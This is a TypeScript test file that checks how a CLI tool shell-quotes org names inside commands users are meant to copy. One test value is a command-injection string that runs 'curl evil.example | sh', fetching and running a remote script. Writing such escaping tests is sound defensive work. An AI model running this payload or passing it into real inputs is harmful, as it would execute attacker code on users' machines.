import { expect } from 'chai';
import { elementsError } from '../src/errors.ts';
import { withCommandTokens } from '../src/model/names/commandTokens.ts';

const sentence = (template: string, ...tokens: string[]): string =>
  withCommandTokens(tokens, (marked) =>
    marked.reduce<string>((text, token) => text.replace('%s', () => token), template)
  );

describe('a name in a command that a person is to copy', () => {
  const EVIL = 'prod$(touch /tmp/x); curl evil.example | sh #';

  it('is one word of a shell there, and itself elsewhere', () => {
    expect(sentence('%s: start "sf elements sync --target-org %s" now', EVIL, EVIL)).to.equal(
      `${EVIL}: start "sf elements sync --target-org '${EVIL}'" now`
    );
    expect(sentence('"sf elements sync -o %s --retry"', "it's")).to.equal(`"sf elements sync -o 'it'\\''s' --retry"`);
  });

  it('is left as it is where it needs no quotes, and where it is an option already', () => {
    expect(sentence('"sf elements sync -o %s"', 'ada@acme.example')).to.equal('"sf elements sync -o ada@acme.example"');
    expect(sentence('"sf elements policy audit %s"', "--backend 'sqlite:/a b.db'")).to.equal(
      `"sf elements policy audit --backend 'sqlite:/a b.db'"`
    );
  });

  it('can not end the command that it stands in', () => {
    expect(sentence('"sf elements sync -o %s" or "sf elements org list"', 'a" b')).to.equal(
      `"sf elements sync -o 'a" b'" or "sf elements org list"`
    );
  });

  it('is quoted in the actions of errors', () => {
    expect(elementsError('orgNotConnected', [EVIL]).actions?.join('\n')).to.contain(`'${EVIL}'`);
  });
});
